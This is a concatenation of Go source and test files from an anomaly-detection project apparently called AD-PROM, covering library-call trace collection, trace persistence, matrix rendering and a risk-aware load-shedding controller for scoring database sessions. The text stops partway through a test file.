	mx.sites, mx.index, mx.m = newSites, newIndex, nm
}

// Labels returns the distinct observation labels of all sites, sorted.
func (mx *Matrix) Labels() []string {
	seen := map[string]bool{}
	for _, s := range mx.sites {
		seen[s.Label] = true
	}
	out := make([]string, 0, len(seen))
	for l := range seen {
		out = append(out, l)
	}
	sort.Strings(out)
	return out
}

// String renders the matrix in the style of the paper's Tables I and II.
func (mx *Matrix) String() string {
	names := make([]string, mx.Dim())
	names[Entry], names[Exit] = "eps", "eps'"
	for k, s := range mx.sites {
		names[k+2] = s.Label + "@" + s.Site.String()
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "CTM %s (%d sites)\n", mx.Name, mx.NumSites())
	for i := 0; i < mx.Dim(); i++ {
		for j := 0; j < mx.Dim(); j++ {
			if mx.m[i][j] == 0 {
				continue
			}
			fmt.Fprintf(&sb, "  %-40s -> %-40s %.6f\n", names[i], names[j], mx.m[i][j])
		}
	}
	return sb.String()
}
