package collector

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
)

// Trace persistence: traces are stored as JSON lines, one call per line,
// with blank lines separating traces. The format is append-friendly (a
// collector daemon can stream calls) and diff-friendly for golden files.

// SaveTraces writes traces to w.
func SaveTraces(w io.Writer, traces []Trace) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for i, tr := range traces {
		if i > 0 {
			if _, err := bw.WriteString("\n"); err != nil {
				return fmt.Errorf("collector: saving traces: %w", err)
			}
		}
		for _, c := range tr {
			if err := enc.Encode(c); err != nil {
				return fmt.Errorf("collector: saving traces: %w", err)
			}
		}
	}
	return bw.Flush()
}

// LoadTraces reads traces written by SaveTraces.
func LoadTraces(r io.Reader) ([]Trace, error) {
	var traces []Trace
	var cur Trace
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 4*1024*1024)
	line := 0
	for sc.Scan() {
		line++
		text := sc.Text()
		if text == "" {
			if len(cur) > 0 {
				traces = append(traces, cur)
				cur = nil
			}
			continue
		}
		var c Call
		if err := json.Unmarshal([]byte(text), &c); err != nil {
			return nil, fmt.Errorf("collector: loading traces: line %d: %w", line, err)
		}
		cur = append(cur, c)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("collector: loading traces: %w", err)
	}
	if len(cur) > 0 {
		traces = append(traces, cur)
	}
	return traces, nil
}
