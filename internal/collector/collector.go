// Package collector implements AD-PROM's Calls Collector (paper §IV-B2):
// it attaches to a running program and records the library calls it issues,
// together with the caller function — the stream both the Profile
// Constructor (training) and the Detection Engine (detection) consume.
//
// Two modes reproduce the Table VI comparison:
//
//   - ModeADPROM records only the call label and caller, the paper's
//     purpose-built Dyninst collector ("we only collect the names of the
//     library calls without their arguments").
//   - ModeLtrace emulates the ltrace baseline: every call is formatted into a
//     log line including its rendered arguments, and the caller is resolved
//     through a simulated addr2line pass over a symbol table, the way ltrace
//     output must be post-processed from instruction pointers. The extra
//     work is real computation (formatting + symbol search), so the measured
//     overhead difference has the same cause as the paper's.
package collector

import (
	"fmt"
	"io"
	"strings"

	"adprom/internal/interp"
)

// Mode selects the collection strategy.
type Mode int

const (
	// ModeADPROM collects call labels and callers only.
	ModeADPROM Mode = iota
	// ModeLtrace additionally renders arguments and resolves callers through
	// a simulated addr2line symbol table.
	ModeLtrace
)

// Call is one recorded library call.
type Call struct {
	// Label is the observation symbol (name or name_Q<bid>).
	Label string
	// Name is the plain call name.
	Name string
	// Caller is the function containing the call site.
	Caller string
	// Block is the basic block of the call site.
	Block int
	// Origins carries the query origins when the call leaked TD.
	Origins []interp.Origin
	// SQL is the wire query text when the call executed a query; "" for
	// non-query calls. Feeds the SQL-behaviour detection channel.
	SQL string
	// Rows is the query's result cardinality (0 for errors and non-queries).
	Rows int
}

// Trace is the recorded call sequence of one program run.
type Trace []Call

// Labels projects the trace to its observation symbols.
func (t Trace) Labels() []string {
	out := make([]string, len(t))
	for i, c := range t {
		out[i] = c.Label
	}
	return out
}

// Windows returns all sliding windows of length n over the trace (step 1).
// A trace shorter than n yields one window with the whole trace; an empty
// trace yields none. The Detection Engine receives exactly these n-length
// call sequences (paper §IV-D).
func (t Trace) Windows(n int) []Trace {
	if len(t) == 0 || n <= 0 {
		return nil
	}
	if len(t) <= n {
		return []Trace{t}
	}
	out := make([]Trace, 0, len(t)-n+1)
	for i := 0; i+n <= len(t); i++ {
		out = append(out, t[i:i+n])
	}
	return out
}

// LabelWindows is Windows projected to label slices, the training input.
func (t Trace) LabelWindows(n int) [][]string {
	ws := t.Windows(n)
	out := make([][]string, len(ws))
	for i, w := range ws {
		out[i] = w.Labels()
	}
	return out
}

// Collector records the calls of one or more runs.
type Collector struct {
	mode   Mode
	trace  Trace
	log    io.Writer
	sym    *symtab
	logged int
}

// New returns a collector. In ModeLtrace, log receives the formatted lines
// (io.Discard is used when nil), and the simulated symbol table is built
// once, mirroring ltrace's startup cost.
func New(mode Mode, log io.Writer) *Collector {
	c := &Collector{mode: mode, log: log}
	if mode == ModeLtrace {
		if c.log == nil {
			c.log = io.Discard
		}
		c.sym = newSymtab()
	}
	return c
}

// Hook returns the interpreter hook that feeds this collector.
func (c *Collector) Hook() interp.Hook {
	return func(e *interp.Event) {
		call := Call{
			Label:   e.Label,
			Name:    e.Name,
			Caller:  e.Caller,
			Block:   e.Block,
			Origins: e.Origins,
			SQL:     e.SQL,
			Rows:    e.Rows,
		}
		if c.mode == ModeLtrace {
			resolved := c.sym.resolve(e.Caller, e.Block)
			fmt.Fprintf(c.log, "%s %s(%s) = <?> [%s]\n",
				resolved, e.Name, strings.Join(e.Args, ", "), e.Caller)
			c.logged++
		}
		c.trace = append(c.trace, call)
	}
}

// Trace returns the calls recorded so far.
func (c *Collector) Trace() Trace { return c.trace }

// LoggedLines reports how many ltrace-style lines were written.
func (c *Collector) LoggedLines() int { return c.logged }

// Reset clears the recorded trace between runs.
func (c *Collector) Reset() { c.trace = nil }

// symtab simulates the binary's symbol table that ltrace-style collection
// resolves instruction pointers against. Addresses are synthetic but the
// resolution work (hash, binary search, formatting) is real.
type symtab struct {
	addrs []uint64
	names []string
}

func newSymtab() *symtab {
	const entries = 4096
	s := &symtab{addrs: make([]uint64, entries), names: make([]string, entries)}
	addr := uint64(0x400000)
	for i := 0; i < entries; i++ {
		addr += uint64(16 + (i*2654435761)%4096)
		s.addrs[i] = addr
		s.names[i] = fmt.Sprintf("sym_%06x", addr)
	}
	return s
}

// resolve maps (caller, block) to a synthetic address and looks it up with a
// linear scan. Real ltrace post-processing resolves each instruction pointer
// by invoking addr2line — a subprocess costing milliseconds per call — so a
// full table scan is a *conservative* stand-in for that per-call cost; the
// Table VI comparison only needs the baseline's per-call work to dwarf the
// name-only collector's two appends, which it does by construction here and
// by process spawning in the original.
func (s *symtab) resolve(caller string, block int) string {
	var h uint64 = 14695981039346656037
	for i := 0; i < len(caller); i++ {
		h ^= uint64(caller[i])
		h *= 1099511628211
	}
	h ^= uint64(block)
	h *= 1099511628211
	addr := s.addrs[0] + h%(s.addrs[len(s.addrs)-1]-s.addrs[0])
	best := len(s.addrs) - 1
	for i, a := range s.addrs {
		if a >= addr {
			best = i
			break
		}
	}
	var off uint64
	if s.addrs[best] <= addr {
		off = addr - s.addrs[best]
	}
	return fmt.Sprintf("%s+0x%x", s.names[best], off)
}
