package collector

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"adprom/internal/interp"
)

func sampleTraces() []Trace {
	return []Trace{
		{
			{Label: "PQexec", Name: "PQexec", Caller: "main", Block: 0},
			{Label: "printf_Q2", Name: "printf", Caller: "main", Block: 2,
				Origins: []interp.Origin{{Func: "main", Block: 0}}},
		},
		{
			{Label: "scanf", Name: "scanf", Caller: "main", Block: 0},
		},
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	traces := sampleTraces()
	if err := SaveTraces(&buf, traces); err != nil {
		t.Fatalf("SaveTraces: %v", err)
	}
	got, err := LoadTraces(&buf)
	if err != nil {
		t.Fatalf("LoadTraces: %v", err)
	}
	if !reflect.DeepEqual(got, traces) {
		t.Errorf("round trip mismatch:\n%+v\n%+v", got, traces)
	}
}

func TestLoadTracesRejectsGarbage(t *testing.T) {
	if _, err := LoadTraces(strings.NewReader("not json\n")); err == nil {
		t.Fatal("garbage accepted")
	}
	// A partially valid stream reports the failing line.
	in := `{"Label":"a","Name":"a"}` + "\nbroken\n"
	if _, err := LoadTraces(strings.NewReader(in)); err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Errorf("err = %v, want line 2 context", err)
	}
}

func TestLoadEmpty(t *testing.T) {
	got, err := LoadTraces(strings.NewReader(""))
	if err != nil || len(got) != 0 {
		t.Errorf("empty load = %v, %v", got, err)
	}
	got, err = LoadTraces(strings.NewReader("\n\n\n"))
	if err != nil || len(got) != 0 {
		t.Errorf("blank load = %v, %v", got, err)
	}
}

func TestSaveLoadPreservesTraceBoundaries(t *testing.T) {
	var buf bytes.Buffer
	traces := sampleTraces()
	if err := SaveTraces(&buf, traces); err != nil {
		t.Fatal(err)
	}
	got, _ := LoadTraces(&buf)
	if len(got) != 2 || len(got[0]) != 2 || len(got[1]) != 1 {
		t.Errorf("boundaries lost: %d traces, lens %v", len(got), got)
	}
}
