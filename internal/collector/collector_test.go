package collector

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"adprom/internal/interp"
	"adprom/internal/ir"
	"adprom/internal/minidb"
)

func demoProgram() *ir.Program {
	b := ir.NewBuilder("demo")
	m := b.Func("main")
	e := m.Block()
	e.CallTo("conn", "PQconnectdb")
	e.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT * FROM t"))
	e.CallTo("v", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
	e.Call("printf", ir.S("%s"), ir.V("v"))
	e.Call("printf", ir.S("bye"))
	e.Ret()
	return b.MustBuild()
}

func runWith(t *testing.T, c *Collector, captureArgs bool) {
	t.Helper()
	db := minidb.New()
	db.MustExec("CREATE TABLE t (a INT)")
	db.MustExec("INSERT INTO t VALUES (7)")
	ip := interp.New(demoProgram(), interp.NewWorld(db), interp.Options{CaptureArgs: captureArgs})
	ip.AddHook(c.Hook())
	if _, err := ip.Run(); err != nil {
		t.Fatalf("Run: %v", err)
	}
}

func TestADPROMModeRecordsLabelsAndCallers(t *testing.T) {
	c := New(ModeADPROM, nil)
	runWith(t, c, false)
	tr := c.Trace()
	want := []string{"PQconnectdb", "PQexec", "PQgetvalue", "printf_Q0", "printf"}
	if got := tr.Labels(); !reflect.DeepEqual(got, want) {
		t.Errorf("Labels = %v, want %v", got, want)
	}
	for _, call := range tr {
		if call.Caller != "main" {
			t.Errorf("Caller = %q, want main", call.Caller)
		}
	}
	if tr[3].Name != "printf" || len(tr[3].Origins) != 1 {
		t.Errorf("leak call = %+v", tr[3])
	}
	if c.LoggedLines() != 0 {
		t.Errorf("AD-PROM mode logged %d lines", c.LoggedLines())
	}
}

func TestLtraceModeFormatsLines(t *testing.T) {
	var buf bytes.Buffer
	c := New(ModeLtrace, &buf)
	runWith(t, c, true)
	if c.LoggedLines() != 5 {
		t.Errorf("LoggedLines = %d, want 5", c.LoggedLines())
	}
	out := buf.String()
	if !strings.Contains(out, "PQexec(") || !strings.Contains(out, "SELECT * FROM t") {
		t.Errorf("ltrace log missing call with args:\n%s", out)
	}
	if !strings.Contains(out, "sym_") {
		t.Errorf("ltrace log missing resolved symbols:\n%s", out)
	}
	// The trace content itself is identical across modes.
	want := []string{"PQconnectdb", "PQexec", "PQgetvalue", "printf_Q0", "printf"}
	if got := c.Trace().Labels(); !reflect.DeepEqual(got, want) {
		t.Errorf("Labels = %v, want %v", got, want)
	}
}

func TestLtraceModeNilWriterUsesDiscard(t *testing.T) {
	c := New(ModeLtrace, nil)
	runWith(t, c, true)
	if c.LoggedLines() != 5 {
		t.Errorf("LoggedLines = %d", c.LoggedLines())
	}
}

func TestReset(t *testing.T) {
	c := New(ModeADPROM, nil)
	runWith(t, c, false)
	if len(c.Trace()) == 0 {
		t.Fatal("no trace recorded")
	}
	c.Reset()
	if len(c.Trace()) != 0 {
		t.Error("Reset left calls behind")
	}
}

func TestWindows(t *testing.T) {
	mk := func(labels ...string) Trace {
		tr := make(Trace, len(labels))
		for i, l := range labels {
			tr[i] = Call{Label: l}
		}
		return tr
	}

	t5 := mk("a", "b", "c", "d", "e")
	ws := t5.Windows(3)
	if len(ws) != 3 {
		t.Fatalf("Windows(3) over 5 = %d windows, want 3", len(ws))
	}
	if got := ws[1].Labels(); !reflect.DeepEqual(got, []string{"b", "c", "d"}) {
		t.Errorf("window 1 = %v", got)
	}

	// Short trace yields a single whole-trace window.
	short := mk("a", "b")
	if ws := short.Windows(15); len(ws) != 1 || len(ws[0]) != 2 {
		t.Errorf("short trace windows = %v", ws)
	}
	if ws := Trace(nil).Windows(5); ws != nil {
		t.Errorf("empty trace windows = %v", ws)
	}
	if ws := t5.Windows(0); ws != nil {
		t.Errorf("n=0 windows = %v", ws)
	}

	lw := t5.LabelWindows(4)
	if len(lw) != 2 || !reflect.DeepEqual(lw[0], []string{"a", "b", "c", "d"}) {
		t.Errorf("LabelWindows = %v", lw)
	}
}

func TestSymtabResolutionIsDeterministic(t *testing.T) {
	s := newSymtab()
	a := s.resolve("main", 3)
	b := s.resolve("main", 3)
	if a != b {
		t.Errorf("resolve not deterministic: %q vs %q", a, b)
	}
	if c := s.resolve("other", 9); c == a {
		t.Errorf("distinct sites resolved identically: %q", c)
	}
	if !strings.HasPrefix(a, "sym_") {
		t.Errorf("resolved symbol = %q", a)
	}
}
