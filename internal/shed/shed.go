// Package shed is the risk-aware admission tier between ingest and the
// detection worker pool: when a worker's queue saturates, it sheds the
// sessions least likely to be leaking instead of the newest call to arrive.
//
// The design follows Grushka-Cohen et al. ("Sampling High Throughput Data
// for Anomaly Detection of Data-Base Activity"): under throughput pressure,
// sample by risk rather than drop blindly — always score the sessions most
// likely to be anomalous, probabilistically thin the provably boring ones.
// Each session carries a risk score maintained from live signals the runtime
// already produces:
//
//   - recent alerts: a session that flagged within the last AlertMemory
//     windows has risk 1 and is never shed;
//   - score drift: a Page–Hinkley accumulator over the session's window
//     scores (the same test shape internal/lifecycle runs fleet-wide),
//     so a session whose scores are sliding toward the threshold gains risk
//     before it ever alerts;
//   - sensitive touches: calls that output targeted data or carry an
//     administrator-marked sensitive label (e.g. derived from query
//     signatures against protected tables, internal/qsig);
//   - starvation: every consecutive shed decision raises risk, so no
//     session is starved forever — after StarveLimit consecutive sheds the
//     session reaches the guarantee band and is scored.
//
// Admission is deterministic given Config.Seed: the probabilistic thinning
// draws its uniform variate from a splitmix64 hash of (seed, session id,
// per-session decision index), never from a global RNG or the clock, so a
// chaos test replaying the same offered load observes the same decisions.
//
// The controller engages only when queue occupancy crosses HighWater and
// disengages when it falls back under LowWater (hysteresis, so the shed/no-
// shed boundary does not thrash), and while engaged it scales shedding
// pressure with occupancy: a mildly over-watermark queue sheds only the
// lowest-risk sessions, a full queue sheds everything below the guarantee
// band. Alongside the shed counters it maintains the risk mass admitted and
// shed, whose ratio is the estimated miss probability — the fraction of
// expected alert evidence the degradation gave up — surfaced in Stats,
// Prometheus, and /metrics.
package shed

import (
	"hash/fnv"
	"math"
	"sync/atomic"
)

// Config tunes the admission controller. The zero value of every field
// selects the default documented on it; a zero Config is usable as-is.
type Config struct {
	// HighWater and LowWater are the queue-occupancy hysteresis thresholds
	// (fraction of per-worker pending-call capacity). Shedding engages when
	// occupancy reaches HighWater (default 0.75) and disengages when it
	// falls below LowWater (default 0.40).
	HighWater float64
	LowWater  float64

	// GuaranteeRisk is the risk score at or above which a session is always
	// admitted, with blocking backpressure if needed (default 0.90).
	// Alert-bearing sessions have risk 1 and always clear it.
	GuaranteeRisk float64

	// MinAdmit floors the admission probability of even the least risky
	// session under the heaviest load (default 0.05), so every session keeps
	// a trickle of scored windows feeding its risk signals.
	MinAdmit float64

	// AlertMemory is how many judged windows an alert keeps the session in
	// the never-shed band (default 64). SensitiveMemory is the equivalent
	// decay horizon for sensitive-table touches (default 32), which raise
	// risk rather than guarantee admission.
	AlertMemory     uint64
	SensitiveMemory uint64

	// DriftLambda and DriftDelta parameterise the per-session Page–Hinkley
	// drift component: the accumulator grows when window scores run more
	// than DriftDelta (default 0.05) below the session's running mean, and
	// contributes risk proportionally to accumulator/DriftLambda (default
	// 2.0), saturating at full weight.
	DriftLambda float64
	DriftDelta  float64

	// StarveLimit is the number of consecutive shed decisions after which a
	// session's starvation component alone lifts it into the guarantee band
	// (default 64), bounding time-since-last-scored for every session.
	StarveLimit uint64

	// Seed makes shed decisions reproducible: the same seed, session ids,
	// and offered sequence yield the same admissions. Zero is a valid seed.
	Seed uint64

	// SensitiveLabels marks extra call labels as sensitive touches beyond
	// the profile's leak labels; typically derived from query signatures
	// against protected tables (qsig.SensitiveLabels). The runtime plumbs
	// this to each session's detection engine.
	SensitiveLabels map[string]bool
}

// Defaults for zero Config fields.
const (
	defaultHighWater     = 0.75
	defaultLowWater      = 0.40
	defaultGuaranteeRisk = 0.90
	defaultMinAdmit      = 0.05
	defaultAlertMemory   = 64
	defaultSensMemory    = 32
	defaultDriftLambda   = 2.0
	defaultDriftDelta    = 0.05
	defaultStarveLimit   = 64

	// warmWindows is how many judged windows build the running-mean baseline
	// before the Page–Hinkley accumulator starts charging.
	warmWindows = 8

	// riskFloor is the baseline risk of a quiet, fully-profiled session;
	// unseenRisk is the extra risk of a session that has never completed a
	// window (unknown is not safe).
	riskFloor  = 0.02
	unseenRisk = 0.30

	// Weights of the decaying sensitive-touch and saturating drift
	// components in the composite risk score.
	sensitiveWeight = 0.40
	driftWeight     = 0.50

	// riskMicro is the fixed-point scale risk mass accumulates at.
	riskMicro = 1e6
)

func (c Config) withDefaults() Config {
	if c.HighWater <= 0 || c.HighWater > 1 {
		c.HighWater = defaultHighWater
	}
	if c.LowWater <= 0 || c.LowWater >= c.HighWater {
		c.LowWater = defaultLowWater
		if c.LowWater >= c.HighWater {
			c.LowWater = c.HighWater / 2
		}
	}
	if c.GuaranteeRisk <= 0 || c.GuaranteeRisk > 1 {
		c.GuaranteeRisk = defaultGuaranteeRisk
	}
	if c.MinAdmit <= 0 || c.MinAdmit > 1 {
		c.MinAdmit = defaultMinAdmit
	}
	if c.AlertMemory == 0 {
		c.AlertMemory = defaultAlertMemory
	}
	if c.SensitiveMemory == 0 {
		c.SensitiveMemory = defaultSensMemory
	}
	if c.DriftLambda <= 0 {
		c.DriftLambda = defaultDriftLambda
	}
	if c.DriftDelta <= 0 {
		c.DriftDelta = defaultDriftDelta
	}
	if c.StarveLimit == 0 {
		c.StarveLimit = defaultStarveLimit
	}
	return c
}

// SessionRisk is the per-session risk state. The judgement-side fields
// (windows, alerts, drift) have a single writer — the worker goroutine the
// session is pinned to — while Risk and the decision counter are read and
// advanced from producer goroutines, so every field is atomic.
type SessionRisk struct {
	c      *Controller
	idHash uint64

	windows       atomic.Uint64 // completed-window judgements
	lastAlert     atomic.Uint64 // 1-based window index of the last alert, 0 = never
	lastSensitive atomic.Uint64 // 1-based window index of the last sensitive touch
	meanBits      atomic.Uint64 // running mean of window scores (float64 bits)
	phBits        atomic.Uint64 // Page–Hinkley accumulator (float64 bits)

	decisions  atomic.Uint64 // admission decisions taken (drives the hash)
	consecShed atomic.Uint64 // consecutive shed decisions (starvation signal)
	shedCalls  atomic.Uint64 // lifetime calls shed from this session
}

// NoteJudgement folds one completed-window judgement (per-symbol score and
// verdict) into the session's risk signals. Called from the session's worker.
func (sr *SessionRisk) NoteJudgement(score float64, flagged bool) {
	w := sr.windows.Add(1)
	if flagged {
		sr.lastAlert.Store(w)
		// An alert resets the drift hunt: the anomaly is already caught.
		sr.phBits.Store(0)
		return
	}
	mean := math.Float64frombits(sr.meanBits.Load())
	if w <= warmWindows {
		// Build the baseline; charge no drift during warm-up.
		sr.meanBits.Store(math.Float64bits(mean + (score-mean)/float64(w)))
		return
	}
	cfg := &sr.c.cfg
	ph := math.Float64frombits(sr.phBits.Load())
	ph += mean - score - cfg.DriftDelta
	if ph < 0 {
		ph = 0
	}
	// Cap the accumulator so a long excursion cannot take unboundedly long
	// to recover from once scores normalise.
	if limit := 4 * cfg.DriftLambda; ph > limit {
		ph = limit
	}
	sr.phBits.Store(math.Float64bits(ph))
	sr.meanBits.Store(math.Float64bits(mean + (score-mean)/float64(w)))
}

// NoteSensitive records that the session just touched sensitive data,
// attributed to the window in progress. Called from the session's worker.
func (sr *SessionRisk) NoteSensitive() {
	sr.lastSensitive.Store(sr.windows.Load() + 1)
}

// ShedCalls returns the session's lifetime shed-call count.
func (sr *SessionRisk) ShedCalls() uint64 { return sr.shedCalls.Load() }

// Risk computes the session's composite risk score in [0, 1]. A recent alert
// pins it to 1; otherwise decaying sensitive-touch recency, saturating score
// drift, starvation pressure, and a never-scored bump stack on a small floor.
func (sr *SessionRisk) Risk() float64 {
	cfg := &sr.c.cfg
	w := sr.windows.Load()
	if la := sr.lastAlert.Load(); la > 0 && w < la+cfg.AlertMemory {
		return 1
	}
	r := riskFloor
	if w == 0 {
		r += unseenRisk
	}
	if ls := sr.lastSensitive.Load(); ls > 0 && w < ls+cfg.SensitiveMemory {
		var age float64
		if w > ls {
			age = float64(w-ls) / float64(cfg.SensitiveMemory)
		}
		r += sensitiveWeight * (1 - age)
	}
	if ph := math.Float64frombits(sr.phBits.Load()); ph > 0 {
		r += driftWeight * min(1, ph/cfg.DriftLambda)
	}
	if cs := sr.consecShed.Load(); cs > 0 {
		r += float64(cs) / float64(cfg.StarveLimit)
	}
	return min(r, 1)
}

// Decision is the outcome of one admission check.
type Decision struct {
	// Admit reports whether the op should be enqueued. Guaranteed marks a
	// high-risk admission the caller must enqueue with blocking backpressure
	// rather than shedding on a full channel.
	Admit      bool
	Guaranteed bool
	// Engaged reports whether the controller was shedding at decision time.
	Engaged bool
	// Risk is the session's risk score, P the admission probability applied
	// (1 while disengaged or guaranteed), and Occupancy the worker-queue
	// occupancy the decision saw.
	Risk      float64
	P         float64
	Occupancy float64
}

// Controller is the admission controller shared by all producers of one
// runtime. All methods are safe for concurrent use.
type Controller struct {
	cfg     Config
	engaged []atomic.Bool // per-worker hysteresis latch

	shedDecisions  atomic.Uint64
	admitDecisions atomic.Uint64
	shedCalls      atomic.Uint64
	riskShedMicro  atomic.Uint64 // risk mass shed, in riskMicro units per call
	riskAdmitMicro atomic.Uint64 // risk mass admitted
}

// New builds a controller for a pool of workers (per-worker hysteresis
// state). Zero Config fields take their documented defaults.
func New(cfg Config, workers int) *Controller {
	if workers < 1 {
		workers = 1
	}
	return &Controller{cfg: cfg.withDefaults(), engaged: make([]atomic.Bool, workers)}
}

// Config returns the controller's effective (defaulted) configuration.
func (c *Controller) Config() Config { return c.cfg }

// NewSession creates the risk state for one session. The id is hashed with
// FNV-1a, a fixed function, so decisions replay identically across processes.
func (c *Controller) NewSession(id string) *SessionRisk {
	h := fnv.New64a()
	h.Write([]byte(id))
	return &SessionRisk{c: c, idHash: h.Sum64()}
}

// Decide runs one admission check for a session against the occupancy of its
// worker's queue (pending calls / capacity). It updates the worker's
// hysteresis latch as a side effect. The caller reports the outcome with
// Admitted or Shed once the enqueue attempt resolves.
func (c *Controller) Decide(sr *SessionRisk, worker int, occ float64) Decision {
	if worker < 0 || worker >= len(c.engaged) {
		worker = 0
	}
	eng := &c.engaged[worker]
	if eng.Load() {
		if occ < c.cfg.LowWater {
			eng.Store(false)
		}
	} else if occ >= c.cfg.HighWater {
		eng.Store(true)
	}
	d := Decision{Risk: sr.Risk(), Occupancy: occ, Engaged: eng.Load()}
	if !d.Engaged {
		d.Admit, d.P = true, 1
		return d
	}
	if d.Risk >= c.cfg.GuaranteeRisk {
		d.Admit, d.Guaranteed, d.P = true, true, 1
		return d
	}
	// Severity ramps from 0 at LowWater to 1 at full occupancy, and scales
	// how hard low risk is punished: p = 1 − severity·(1 − risk), floored.
	sev := (occ - c.cfg.LowWater) / (1 - c.cfg.LowWater)
	sev = max(0, min(1, sev))
	p := 1 - sev*(1-d.Risk)
	if p < c.cfg.MinAdmit {
		p = c.cfg.MinAdmit
	}
	d.P = p
	d.Admit = unit(c.cfg.Seed, sr.idHash, sr.decisions.Add(1)) < p
	return d
}

// Admitted records that calls from a decided op were enqueued for scoring.
func (c *Controller) Admitted(sr *SessionRisk, d Decision, calls int) {
	if calls <= 0 {
		return
	}
	c.admitDecisions.Add(1)
	c.riskAdmitMicro.Add(uint64(d.Risk * riskMicro * float64(calls)))
	sr.consecShed.Store(0)
}

// Shed records that calls from a decided op were rejected — either by the
// probabilistic gate or because the queue budget could not fit them.
func (c *Controller) Shed(sr *SessionRisk, d Decision, calls int) {
	if calls <= 0 {
		return
	}
	c.shedDecisions.Add(1)
	c.shedCalls.Add(uint64(calls))
	c.riskShedMicro.Add(uint64(d.Risk * riskMicro * float64(calls)))
	sr.consecShed.Add(1)
	sr.shedCalls.Add(uint64(calls))
}

// Snapshot is a point-in-time view of the controller.
type Snapshot struct {
	// Engaged reports whether any worker's hysteresis latch is currently on.
	Engaged bool
	// ShedCalls is the total calls shed; ShedDecisions and AdmitDecisions
	// count admission checks by outcome.
	ShedCalls      uint64
	ShedDecisions  uint64
	AdmitDecisions uint64
	// RiskShed and RiskAdmitted are the per-call risk mass shed and scored.
	RiskShed     float64
	RiskAdmitted float64
	// MissProbability estimates the fraction of expected alert evidence the
	// shedding gave up: shed risk mass over total offered risk mass.
	MissProbability float64
}

// Snapshot reads the controller's counters. Fields are individually atomic;
// the snapshot is not a single atomic cut, which is fine for monitoring.
func (c *Controller) Snapshot() Snapshot {
	s := Snapshot{
		ShedCalls:      c.shedCalls.Load(),
		ShedDecisions:  c.shedDecisions.Load(),
		AdmitDecisions: c.admitDecisions.Load(),
		RiskShed:       float64(c.riskShedMicro.Load()) / riskMicro,
		RiskAdmitted:   float64(c.riskAdmitMicro.Load()) / riskMicro,
	}
	for i := range c.engaged {
		if c.engaged[i].Load() {
			s.Engaged = true
			break
		}
	}
	if total := s.RiskShed + s.RiskAdmitted; total > 0 {
		s.MissProbability = s.RiskShed / total
	}
	return s
}

// unit maps (seed, session, decision index) to a uniform variate in [0, 1)
// with a splitmix64 finaliser. Fully deterministic: replaying the same
// offered sequence under the same seed replays the same admissions.
func unit(seed, id, n uint64) float64 {
	x := seed ^ (id * 0x9e3779b97f4a7c15) ^ (n * 0xbf58476d1ce4e5b9)
	x ^= x >> 30
	x *= 0xbf58476d1ce4e5b9
	x ^= x >> 27
	x *= 0x94d049bb133111eb
	x ^= x >> 31
	return float64(x>>11) / (1 << 53)
}
