package shed

import "testing"

// BenchmarkShedDecide measures the full per-op admission check while the
// controller is engaged — risk composition, hysteresis, deterministic draw,
// and outcome accounting. This is the cost ShedByRisk adds to every enqueue
// under overload, so it is gated by make bench-smoke against the committed
// baseline.
func BenchmarkShedDecide(b *testing.B) {
	c := New(Config{Seed: 9}, 4)
	sr := c.NewSession("bench-session")
	for i := 0; i < 32; i++ {
		sr.NoteJudgement(-1.1, false)
	}
	sr.NoteSensitive()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d := c.Decide(sr, i&3, 0.9)
		if d.Admit {
			c.Admitted(sr, d, 1)
		} else {
			c.Shed(sr, d, 1)
		}
	}
}
