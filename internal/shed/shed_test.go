package shed

import "testing"

func TestConfigDefaults(t *testing.T) {
	c := New(Config{}, 4).Config()
	if c.HighWater != defaultHighWater || c.LowWater != defaultLowWater {
		t.Fatalf("watermarks: got %v/%v", c.HighWater, c.LowWater)
	}
	if c.GuaranteeRisk != defaultGuaranteeRisk || c.MinAdmit != defaultMinAdmit {
		t.Fatalf("bands: got %v/%v", c.GuaranteeRisk, c.MinAdmit)
	}
	if c.AlertMemory != defaultAlertMemory || c.StarveLimit != defaultStarveLimit {
		t.Fatalf("memories: got %v/%v", c.AlertMemory, c.StarveLimit)
	}
	// LowWater must stay strictly below a user-set HighWater.
	c = New(Config{HighWater: 0.3}, 1).Config()
	if c.LowWater >= c.HighWater {
		t.Fatalf("LowWater %v not below HighWater %v", c.LowWater, c.HighWater)
	}
}

func TestDisengagedAdmitsEverything(t *testing.T) {
	c := New(Config{}, 1)
	sr := c.NewSession("s")
	for i := 0; i < 100; i++ {
		d := c.Decide(sr, 0, 0.5) // between LowWater and HighWater: stays off
		if !d.Admit || d.Engaged {
			t.Fatalf("decision %d: admit=%v engaged=%v, want admit while disengaged", i, d.Admit, d.Engaged)
		}
	}
}

func TestHysteresis(t *testing.T) {
	c := New(Config{}, 1)
	sr := c.NewSession("s")
	if d := c.Decide(sr, 0, 0.74); d.Engaged {
		t.Fatal("engaged below HighWater")
	}
	if d := c.Decide(sr, 0, 0.80); !d.Engaged {
		t.Fatal("did not engage at HighWater")
	}
	// Occupancy falls back into the hysteresis band: stays engaged.
	if d := c.Decide(sr, 0, 0.60); !d.Engaged {
		t.Fatal("disengaged inside the hysteresis band")
	}
	if d := c.Decide(sr, 0, 0.30); d.Engaged {
		t.Fatal("did not disengage below LowWater")
	}
	// Per-worker latches are independent.
	c2 := New(Config{}, 2)
	c2.Decide(sr, 0, 0.9)
	if d := c2.Decide(sr, 1, 0.5); d.Engaged {
		t.Fatal("worker 1 inherited worker 0's latch")
	}
}

func TestAlertGuarantee(t *testing.T) {
	c := New(Config{AlertMemory: 4}, 1)
	sr := c.NewSession("victim")
	sr.NoteJudgement(-3.5, true)
	if r := sr.Risk(); r != 1 {
		t.Fatalf("risk after alert = %v, want 1", r)
	}
	// At full occupancy, an alert-bearing session is still guaranteed.
	for i := 0; i < 200; i++ {
		d := c.Decide(sr, 0, 1.0)
		if !d.Admit || !d.Guaranteed {
